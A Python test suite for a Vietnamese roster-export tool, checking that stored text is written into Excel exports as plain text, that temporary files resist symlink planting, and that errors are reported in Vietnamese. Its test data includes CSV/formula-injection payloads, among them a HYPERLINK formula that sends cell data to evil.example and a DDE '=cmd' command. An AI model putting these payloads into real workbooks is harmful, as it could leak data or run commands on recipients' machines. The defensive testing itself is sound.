"""Files bcd138 writes can be trusted (issue 10, points 1, 2, 6 and 8; issue 11, point 6).

Stored text is never a formula in a workbook; no stored text makes an export fail; files
are written through temporary files no one can plant a link at, keep the permissions of
the file they replace and leave nothing behind when they fail; a failure is one
Vietnamese line naming the file asked for. Every workbook here is written for real and
read back, as XML and with openpyxl; the CLI runs in a subprocess.
"""

from __future__ import annotations

import errno
import os
import random
import re
import resource
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import BinaryIO
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import NamedStyle
from sqlalchemy import select

from committee.domain.errors import OutputExists, UserError
from committee.exports import document_font
from committee.exports.output_files import unwritable, write_atomically, write_text
from committee.exports.xlsx_cells import CUT_MARK, MAX_CELL_TEXT, put, sheet_name, worksheet_text
from committee.exports.xlsx_style import MAX_ROW_HEIGHT
from committee.store.database import Database
from committee.store.models import AdminUnit, Decision
from committee.usecases.decisions import current_decision, roster_with_people
from committee.usecases.exports import (
    load_annex,
    write_district_workbook,
    write_province_workbook,
    write_roster_annex,
)

from .test_exports import import_examples

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def examples(database: Database) -> Database:
    return import_examples(database)


# Text that a spreadsheet would take for a formula or an error value.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+Nguyễn Văn An",
    "-Trần Thị Bình",
    "@SUM(A1:A9)",
    "#REF!",
    "#N/A",
    "=",
)
# The same kind of text as names the importer accepts (no digits in a name).
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example","Bấm vào đây")',
    "=Phạm Thị Dung",
    "+Nguyễn Văn An",
    "-Trần Thị Bình",
    "@Lê Văn Cường",
    "#REF!",
    "#N/A",
    "=Đỗ Văn Em",
    "+Hoàng Thị Gấm",
    "-Vũ Văn Hải",
)


def _store_text(
    database: Database,
    unit: str,
    names: list[str],
    titles: list[str],
    duties: list[str],
    notes: list[str],
    number: str | None = None,
    unit_name: str | None = None,
) -> None:
    """Put text into the database as it could be stored (by an older version, by hand):
    the unit's decision in force gets these names, titles, duties and notes, in turn."""
    with database.transaction() as session:
        decision = current_decision(session, unit)
        assert decision is not None
        for index, (line, person) in enumerate(roster_with_people(session, decision.id)):
            name = names[index % len(names)]
            person.full_name = name
            if hasattr(line, "full_name"):  # a membership that keeps the name it was given
                line.full_name = name
            line.title = titles[index % len(titles)]
            line.duties = duties[index % len(duties)]
            line.note = notes[index % len(notes)]
            session.add_all([line, person])
        if number is not None:
            decision.number = number
            session.add(decision)
        if unit_name is not None:
            stored = session.get(AdminUnit, ("legacy", unit))
            assert stored is not None
            stored.name = unit_name
            session.add(stored)


def _export_all(database: Database, folder: Path) -> list[Path]:
    """The annex of thị trấn Thanh Hà, the workbook of huyện Thanh Hà, the province's."""
    with database.session() as session:
        return [
            write_roster_annex(session, "10813", output=folder / "annex.xlsx", force=True),
            write_district_workbook(session, "294", output=folder / "district.xlsx", force=True),
            write_province_workbook(session, output=folder / "province.xlsx", force=True),
        ]


def _assert_values_only(path: Path) -> list[object]:
    """No formula and no error value in any worksheet of the file, read as XML and with
    openpyxl; returns every value of every cell."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/[^/]+\.xml", n)]
        assert sheets
        for name in sheets:
            root = ElementTree.fromstring(archive.read(name))
            assert root.find(f".//{MAIN}f") is None, (path.name, name)
            assert [c.get("r") for c in root.iter(f"{MAIN}c") if c.get("t") == "e"] == []
    values: list[object] = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (path.name, sheet.title, cell)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                values.append(cell.value)
        for number, dimension in sheet.row_dimensions.items():
            assert dimension.height is None or dimension.height <= MAX_ROW_HEIGHT, number
    return values


# --- 10.1: no formula, no error value ---------------------------------------------------------


def test_stored_text_is_written_as_text_in_every_export(examples: Database, tmp_path: Path) -> None:
    hostile = list(HOSTILE)
    number = '=HYPERLINK("http://evil.example","1/QĐ-UBND")'
    _store_text(
        examples,
        "10813",
        names=hostile,
        titles=hostile[1:] + hostile[:1],
        duties=hostile[2:] + hostile[:2],
        notes=hostile[3:] + hostile[:3],
        number=number,
        unit_name="=cmd|' /C calc'!A0",
    )
    annex, district, province = _export_all(examples, tmp_path)
    for path in (annex, district, province):
        values = set(_assert_values_only(path))
        assert "=cmd|' /C calc'!A0" in values or "=CMD|' /C CALC'!A0" in values, path.name
        if path != annex:  # the annex gives the number inside its decision line
            assert number in values, path.name
        assert any(isinstance(v, str) and number in v for v in values), path.name
    for path in (annex, district):
        values = set(_assert_values_only(path))
        assert set(HOSTILE) <= values, path.name
    sheet = load_workbook(annex)["Danh sách"]
    assert sheet["A2"].value == "THỊ TRẤN =CMD|' /C CALC'!A0"  # the unit's phrase in capitals
    assert sheet["B11"].value == HOSTILE[0] and sheet["B11"].data_type == "s"
    # the committee's sheet in the district workbook is named after the unit, and linked
    workbook = load_workbook(district)
    assert "10813 =cmd|'  C calc'!A0" in workbook.sheetnames
    links = {
        c.hyperlink.location for row in workbook["Tổng hợp"].iter_rows() for c in row if c.hyperlink
    }
    assert "'10813 =cmd|''  C calc''!A0'!A1" in links


def test_an_annex_with_such_text_imports_back_unchanged(examples: Database, tmp_path: Path) -> None:
    """Names, duties and notes come back as they were; each title as the annex printed it
    (the official title of the post stored, 14.2)."""
    names = list(HOSTILE_NAMES)
    _store_text(
        examples,
        "294",
        names=names,
        titles=[f"{text} Trưởng phòng Tư pháp huyện" for text in HOSTILE],
        duties=list(HOSTILE),
        notes=list(reversed(HOSTILE)),
    )
    annex = tmp_path / "danh-sach.xlsx"
    with examples.session() as session:
        write_roster_annex(session, "294", output=annex)
        decision = current_decision(session, "294")
        assert decision is not None
        printed = [line.printed_title for line in load_annex(session, "294").lines]
        before = [
            (person.full_name, line.role, title, line.duties, line.note)
            for (line, person), title in zip(
                roster_with_people(session, decision.id), printed, strict=True
            )
        ]
    _assert_values_only(annex)
    second = tmp_path / "second.sqlite"
    imported = _bcd138("import", str(annex), "--unit", "294", db=second)
    assert imported.returncode == 0, imported.stderr
    from committee.usecases.workspace import open_workspace

    database = open_workspace(str(second))
    try:
        with database.session() as session:
            decision = current_decision(session, "294")
            assert decision is not None
            after = [
                (person.full_name, line.role, line.title, line.duties, line.note)
                for line, person in roster_with_people(session, decision.id)
            ]
    finally:
        database.dispose()
    assert after == before
    assert {row[0] for row in after} == set(names)


def test_text_is_text_through_openpyxl_whatever_it_starts_with(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    for row, text in enumerate(HOSTILE, start=1):
        assert put(sheet.cell(row, 1), text).data_type == "s"
    put(sheet.cell(1, 2), 7)
    put(sheet.cell(2, 2), None)
    workbook.save(tmp_path / "cells.xlsx")
    values = _assert_values_only(tmp_path / "cells.xlsx")
    assert [v for v in values if isinstance(v, str)] == list(HOSTILE)
    assert load_workbook(tmp_path / "cells.xlsx").active["B1"].data_type == "n"


# --- 10.6: no stored text makes an export fail ------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x00b\x07c\x1b[2Jd\x7fe\x85f\x9bg", "abc[2Jdefg"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("lone \ud800 surrogate \udfff", "lone \ufffd surrogate \ufffd"),
        ("non\ufffe\uffffcharacters", "noncharacters"),
        ("emoji 👩‍👩‍👧 and \u200fRTL\u202e marks", "emoji 👩‍👩‍👧 and \u200fRTL\u202e marks"),
    ],
)
def test_characters_a_worksheet_cannot_hold_are_dropped_or_replaced(
    tmp_path: Path, text: str, kept: str
) -> None:
    assert worksheet_text(text) == kept
    workbook = Workbook()
    put(workbook.active["A1"], text)
    workbook.save(tmp_path / "text.xlsx")
    assert load_workbook(tmp_path / "text.xlsx").active["A1"].value == kept


@pytest.mark.parametrize("unit", ["x", "😀", "x😀"])
def test_text_longer_than_a_cell_holds_is_cut_with_a_mark(tmp_path: Path, unit: str) -> None:
    text = unit * 40_000
    cut = worksheet_text(text)
    assert cut.endswith(CUT_MARK)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_TEXT  # Excel counts UTF-16 units
    assert text.startswith(cut.removesuffix(CUT_MARK))  # whole characters, no half emoji
    assert worksheet_text("x" * MAX_CELL_TEXT) == "x" * MAX_CELL_TEXT
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([put(openpyxl.cell.WriteOnlyCell(sheet), text)])
    workbook.save(tmp_path / "long.xlsx")
    assert load_workbook(tmp_path / "long.xlsx").active["A1"].value == cut


def test_sheet_names_made_of_stored_text_are_ones_excel_takes() -> None:
    assert sheet_name("10813 =cmd|' /C calc'!A0") == "10813 =cmd|'  C calc'!A0"
    for text in ("'quoted'", "a[b]c:d*e?f/g\\h", "x" * 50, "\x1b[31m'đỏ'\udc80"):
        name = sheet_name(text)
        assert len(name) <= 31 and name and name[0] != "'" and name[-1] != "'"
        assert not re.search(r"[\[\]:*?/\\\x00-\x1f\ud800-\udfff]", name)
        Workbook().create_sheet(name)  # openpyxl takes it


_TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"]),  # SQLite cannot store lone surrogates
    max_size=60,
)
_STORED_TEXT = st.one_of(
    _TEXT,
    st.tuples(st.sampled_from(HOSTILE), _TEXT).map("".join),
    st.sampled_from(
        [
            "\x00NUL\x00",
            "\x1b[2J\x1b[31mđỏ\x1b[0m",
            "\u202eRTL override\u200f",
            "👨‍👩‍👧‍👦🇻🇳",
            "\ufffe\uffff",
            "",
            " ",
        ]
    ),
    st.tuples(_TEXT.filter(bool), st.integers(33_000, 41_000)).map(
        lambda pair: (pair[0] * (pair[1] // len(pair[0]) + 1))[: pair[1]]
    ),
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    names=st.lists(_STORED_TEXT, min_size=1, max_size=4),
    titles=st.lists(_STORED_TEXT, min_size=1, max_size=3),
    duties=st.lists(_STORED_TEXT, min_size=1, max_size=3),
    notes=st.lists(_STORED_TEXT, min_size=1, max_size=3),
    number=_STORED_TEXT,
    unit_name=_STORED_TEXT,
)
def test_any_stored_text_exports_without_an_error(
    examples: Database,
    tmp_path: Path,
    names: list[str],
    titles: list[str],
    duties: list[str],
    notes: list[str],
    number: str,
    unit_name: str,
) -> None:
    _store_text(examples, "10813", names, titles, duties, notes, number, unit_name)
    annex, district, province = _export_all(examples, tmp_path)
    for path in (annex, district, province):
        _assert_values_only(path)
    sheet = load_workbook(annex)["Danh sách"]
    written = [sheet.cell(row, 2).value or "" for row in range(11, 11 + 9)]
    assert written == [worksheet_text(names[i % len(names)]) for i in range(9)]


# --- 10.2: temporary files --------------------------------------------------------------------


def _old_temporary(path: Path) -> Path:
    """The name the old scheme wrote `path` through: .NAME.PID.tmp beside it."""
    return path.with_name(f".{path.name}.{os.getpid()}.tmp")


@pytest.mark.parametrize("force", [False, True])
def test_a_link_planted_at_the_old_temporary_name_is_not_followed(
    examples: Database, tmp_path: Path, force: bool
) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(b"a file the clerk can write but must not lose")
    victim.chmod(0o600)
    folder = tmp_path / "out"
    folder.mkdir()
    annex, district, province = folder / "a.xlsx", folder / "d.xlsx", folder / "p.xlsx"
    report = folder / "check.json"
    for path in (annex, district, province, report):
        _old_temporary(path).symlink_to(victim)
        if force:
            path.write_bytes(b"old")
    with examples.session() as session:
        write_roster_annex(session, "294", output=annex, force=force)
        write_district_workbook(session, "294", output=district, force=force)
        write_province_workbook(session, output=province, force=force)
    write_text(report, "{}\n", replace=force)
    assert victim.read_bytes() == b"a file the clerk can write but must not lose"
    for path in (annex, district, province):
        assert zipfile.is_zipfile(path) and not path.is_symlink()
    assert report.read_text(encoding="utf-8") == "{}\n"
    # nothing else is left: the planted links and the four files
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [p.name for p in (annex, district, province, report)]
        + [_old_temporary(p).name for p in (annex, district, province, report)]
    )


def test_the_temporary_file_has_a_name_no_one_can_guess(tmp_path: Path) -> None:
    seen: list[str] = []

    def look(stream: BinaryIO) -> None:
        (temporary,) = [p for p in tmp_path.iterdir() if p.name.startswith(".")]
        info = temporary.lstat()
        assert stat.S_ISREG(info.st_mode) and info.st_nlink == 1
        seen.append(temporary.name)
        stream.write(b"x")

    target = tmp_path / "out.txt"
    write_atomically(target, look, replace=True)
    write_atomically(target, look, replace=True)
    first, second = seen
    assert first != second
    assert _old_temporary(target).name not in seen
    assert re.fullmatch(r"\.out\.txt\.[a-z0-9_]{8,}\.tmp", first)


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o600, 0o755])
def test_a_replaced_file_keeps_its_permissions(
    examples: Database, tmp_path: Path, mode: int
) -> None:
    annex, report = tmp_path / "a.xlsx", tmp_path / "check.txt"
    for path in (annex, report):
        path.write_bytes(b"old")
        path.chmod(mode)
    with examples.session() as session:
        write_roster_annex(session, "294", output=annex, force=True)
    write_text(report, "mới\n", replace=True)
    for path in (annex, report):
        assert stat.S_IMODE(path.stat().st_mode) == mode, path.name
    assert zipfile.is_zipfile(annex)


def test_a_new_file_gets_the_permissions_of_the_umask(tmp_path: Path) -> None:
    previous = os.umask(0o027)
    try:
        write_text(tmp_path / "new.txt", "x", replace=False)
        write_text(tmp_path / "forced.txt", "x", replace=True)
    finally:
        os.umask(previous)
    for name in ("new.txt", "forced.txt"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o640


@pytest.mark.parametrize(
    "failure",
    [OSError(errno.ENOSPC, "No space left on device"), ValueError("bad"), KeyboardInterrupt()],
    ids=["disk-full", "writer-bug", "ctrl-c"],
)
@pytest.mark.parametrize("replace", [False, True])
def test_a_failing_writer_leaves_no_file_and_no_temporary_file(
    tmp_path: Path, failure: BaseException, replace: bool
) -> None:
    target = tmp_path / "out.xlsx"
    if replace:
        target.write_bytes(b"previous")

    def fail(stream: BinaryIO) -> None:
        stream.write(b"PK\x03\x04 half a workbook")
        raise failure

    expected = UserError if isinstance(failure, OSError) else type(failure)
    with pytest.raises(expected):
        write_atomically(target, fail, replace=replace)
    assert [p.name for p in tmp_path.iterdir()] == (["out.xlsx"] if replace else [])
    if replace:
        assert target.read_bytes() == b"previous"


def test_an_export_that_fails_half_way_leaves_nothing(
    examples: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from committee.exports import workbooks

    def broken(*args: object) -> None:
        raise RuntimeError("a bug in the workbook, after its first table")

    monkeypatch.setattr(workbooks, "_status_chart", broken)  # district
    monkeypatch.setattr(workbooks, "_district_chart", broken)  # province
    with examples.session() as session:
        with pytest.raises(RuntimeError):
            write_district_workbook(session, "294", output=tmp_path / "d.xlsx")
        with pytest.raises(RuntimeError):
            write_province_workbook(session, output=tmp_path / "p.xlsx")
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("bcd138.sqlite")] == []


def test_an_existing_output_is_a_typed_error(examples: Database, tmp_path: Path) -> None:
    target = tmp_path / "a.xlsx"
    target.write_bytes(b"mine")
    with examples.session() as session, pytest.raises(OutputExists) as raised:
        write_roster_annex(session, "294", output=target)
    assert raised.value.path == target and "--force" in raised.value.message
    link = tmp_path / "dangling.xlsx"
    link.symlink_to(tmp_path / "nowhere")
    with examples.session() as session, pytest.raises(OutputExists):
        write_roster_annex(session, "294", output=link)
    assert not (tmp_path / "nowhere").exists()


# --- 10.8: errors in Vietnamese, naming the file asked for ------------------------------------


def test_an_os_error_names_the_file_asked_for_in_vietnamese(tmp_path: Path) -> None:
    target = tmp_path / "x.xlsx"

    def read_only(stream: BinaryIO) -> None:
        raise OSError(errno.EROFS, "Read-only file system", str(tmp_path / ".x.xlsx.28618.tmp"))

    with pytest.raises(UserError) as raised:
        write_atomically(target, read_only, replace=False)
    assert raised.value.message == (
        f"Không ghi được tệp «{target}»: thư mục «{tmp_path}» nằm trên ổ đĩa chỉ đọc."
    )


@pytest.mark.parametrize("number", sorted(errno.errorcode))
def test_no_os_error_is_told_in_english(tmp_path: Path, number: int) -> None:
    message = unwritable(tmp_path / "x.xlsx", OSError(number, os.strerror(number))).message
    assert message.startswith(f"Không ghi được tệp «{tmp_path / 'x.xlsx'}»: ")
    assert os.strerror(number) not in message
    assert "đã có" not in message and "force" not in message  # the UI's "exists" words


def _bcd138(
    *args: str, db: Path, limit: int | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """The real CLI in a subprocess, with at most `limit` bytes to any file it writes."""

    def limited() -> None:
        if limit is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    environment = {k: v for k, v in os.environ.items() if k != "BCD138_DB"}
    return subprocess.run(
        [sys.executable, "-m", "committee.cli.app", "--db", str(db), *args],
        capture_output=True,
        text=True,
        env=environment,
        cwd=cwd or ROOT,
        preexec_fn=limited,
        timeout=120,
    )


def _bloat(database: Database) -> None:
    """Text large enough that every export and the check's JSON run past a small file
    size limit: long unit names and long, varied duties."""
    rng = random.Random(138)
    letters = "aăâbcdđeêghiklmnoôơpqrstuưvxyáàảãạéèẻẽẹíìỉĩịóòỏõọúùủũụ "

    def text(size: int) -> str:
        return "".join(rng.choices(letters, k=size))

    with database.transaction() as session:
        for unit in session.scalars(select(AdminUnit)).all():
            unit.name = f"{unit.name} {text(600)}"
        for decision in session.scalars(select(Decision)).all():
            for line, _person in roster_with_people(session, decision.id):
                line.duties = text(30_000)
                session.add(line)
    _store_text(database, "10813", ["Lê Văn Cường"], ["Chủ tịch UBND"], [text(30_000)], [""])


LIMIT = 128 * 1024  # bytes a file may grow to: the database is only read


@pytest.fixture
def bloated(examples: Database, tmp_path: Path) -> Path:
    _bloat(examples)
    examples.dispose()
    return tmp_path / "bcd138.sqlite"


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (("export", "roster", "--unit", "294"), "a.xlsx"),
        (("export", "district", "--unit", "294"), "d.xlsx"),
        (("export", "province"), "p.xlsx"),
        (("check", "--format", "json"), "check.json"),
    ],
    ids=["roster", "district", "province", "check"],
)
def test_a_file_size_limit_gives_one_line_and_leaves_nothing(
    bloated: Path, tmp_path: Path, command: tuple[str, ...], name: str
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / name
    whole = _bcd138(*command, "-o", str(target), db=bloated)
    assert whole.returncode in (0, 1), whole.stderr
    assert target.stat().st_size > LIMIT  # without the limit, the file is bigger than it
    target.unlink()

    limited = _bcd138(*command, "-o", str(target), db=bloated, limit=LIMIT)
    assert limited.returncode == 2
    assert limited.stderr.splitlines() == [
        f"Lỗi: Không ghi được tệp «{target}»: tệp vượt quá kích thước lớn nhất được phép ghi."
    ]
    assert list(folder.iterdir()) == []


# The real CLI, its workbook writer slowed down once it has started writing, so that a
# signal reaches it in the middle of an export.
_SLOW_EXPORT = """
import os, pathlib, sys, time
from openpyxl.workbook.workbook import Workbook
from committee.cli.app import main

save = Workbook.save

def slow_save(self, stream):
    stream.write(b"PK" * 1000)
    stream.flush()
    pathlib.Path(os.environ["BCD138_TEST_STARTED"]).touch()
    time.sleep(60)
    save(self, stream)

Workbook.save = slow_save
main(sys.argv[1:])
"""


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
def test_an_export_stopped_by_a_signal_leaves_no_file(
    examples: Database, tmp_path: Path, stop: signal.Signals
) -> None:
    examples.dispose()
    folder = tmp_path / "out"
    folder.mkdir()
    started = tmp_path / "started"  # the workbook is being written when it appears
    command = ["--db", str(tmp_path / "bcd138.sqlite"), "export", "roster", "--unit", "294"]
    process = subprocess.Popen(
        [sys.executable, "-c", _SLOW_EXPORT, *command, "-o", str(folder / "a.xlsx")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        env={**os.environ, "BCD138_TEST_STARTED": str(started)},
    )
    deadline = time.monotonic() + 60
    while not started.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(folder.iterdir()), "the export never started writing"
    process.send_signal(stop)
    _out, error = process.communicate(timeout=60)
    assert process.returncode == 130  # as after Ctrl+C
    assert error.splitlines() == ["Lỗi: đã hủy."]
    assert list(folder.iterdir()) == []


def _unwritable_folder(tmp_path: Path) -> Path:
    if os.geteuid() != 0:
        folder = tmp_path / "locked"
        folder.mkdir()
        folder.chmod(0o555)
        return folder
    return Path("/sys")  # sysfs refuses new files, even to root


def test_check_output_refuses_an_existing_file_without_force(
    examples: Database, tmp_path: Path
) -> None:
    examples.dispose()
    db = tmp_path / "bcd138.sqlite"
    report = tmp_path / "check.json"
    report.write_text("the clerk's own notes", encoding="utf-8")
    report.chmod(0o640)
    refused = _bcd138("check", "--unit", "294", "--format", "json", "-o", str(report), db=db)
    assert refused.returncode == 2
    assert refused.stderr.splitlines() == [
        f"Lỗi: Tệp «{report}» đã có; thêm --force để ghi đè, hoặc chọn tên khác bằng -o."
    ]
    assert report.read_text(encoding="utf-8") == "the clerk's own notes"
    forced = _bcd138(
        "check", "--unit", "294", "--format", "json", "-o", str(report), "--force", db=db
    )
    assert forced.returncode in (0, 1), forced.stderr
    assert report.read_text(encoding="utf-8").startswith("{")
    assert stat.S_IMODE(report.stat().st_mode) == 0o640
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("where", ["unwritable", "missing", "a file"])
def test_check_output_in_a_folder_it_cannot_write_is_one_line(
    examples: Database, tmp_path: Path, where: str
) -> None:
    examples.dispose()
    db = tmp_path / "bcd138.sqlite"
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    folder = {
        "unwritable": _unwritable_folder(tmp_path),
        "missing": tmp_path / "missing",
        "a file": tmp_path / "file.txt",
    }[where]
    report = folder / "check.json"
    result = _bcd138("check", "--unit", "294", "-o", str(report), db=db)
    assert result.returncode == 2
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"Lỗi: Không ghi được tệp «{report}»: ")
    assert not report.exists()


# --- 11.6: openpyxl through its public API ----------------------------------------------------

_EXPORT_MODULES = sorted((ROOT / "committee" / "exports").glob("*.py")) + [
    ROOT / "committee" / "cli" / "export.py"
]


def test_the_exporters_use_no_private_part_of_a_library() -> None:
    assert not list(ROOT.glob("committee/**/xlsx_stream.py"))
    for name in _EXPORT_MODULES:
        source = name.read_text(encoding="utf-8")
        code = "\n".join(line.split("#")[0] for line in source.splitlines())
        found = [
            match.group()
            for match in re.finditer(r"(\w+)\._[a-z]\w*", code)
            if match.group(1) not in ("self", "cls")
        ]
        assert found == [], name


def test_openpyxl_offers_no_public_way_to_set_the_document_font(tmp_path: Path) -> None:
    """Why committee/document_font.py exists: each public way fails."""
    workbook = Workbook(write_only=True)
    with pytest.raises(ValueError, match="exists"):
        workbook.add_named_style(NamedStyle("Normal"))  # the Normal style cannot be replaced
    assert all(isinstance(name, str) for name in workbook.named_styles)  # nor reached
    template = tmp_path / "template.xlsx"
    Workbook().save(template)
    assert not load_workbook(template).write_only  # a template is never write-only


@pytest.mark.parametrize("write_only", [False, True])
def test_the_document_font_is_times_new_roman_in_the_written_file(
    tmp_path: Path, write_only: bool
) -> None:
    workbook = Workbook(write_only=write_only)
    if write_only:
        workbook.create_sheet().append(["x"])
    else:
        workbook.active["A1"] = "x"
    with (tmp_path / "font.xlsx").open("wb") as stream:
        document_font.save_in_document_font(workbook, stream)
    with zipfile.ZipFile(tmp_path / "font.xlsx") as archive:
        assert archive.testzip() is None
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    fonts = styles.findall(f"{MAIN}fonts/{MAIN}font")
    assert fonts[0].find(f"{MAIN}name").get("val") == "Times New Roman"  # type: ignore[union-attr]
    assert fonts[0].find(f"{MAIN}sz").get("val") == "12"  # type: ignore[union-attr]
    assert fonts[0].find(f"{MAIN}scheme") is None  # a theme font would override the name
    normal = next(s for s in styles.iter(f"{MAIN}cellStyle") if s.get("name") == "Normal")
    xf = styles.findall(f"{MAIN}cellStyleXfs/{MAIN}xf")[int(normal.get("xfId", "0"))]
    assert xf.get("fontId") == "0"
    assert load_workbook(tmp_path / "font.xlsx").active["A1"].font.name == "Times New Roman"


def test_a_package_without_fonts_is_an_error_not_a_file_in_calibri() -> None:
    with pytest.raises(document_font.UnexpectedWorkbookPackage, match="font"):
        document_font.with_document_font(
            b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        )
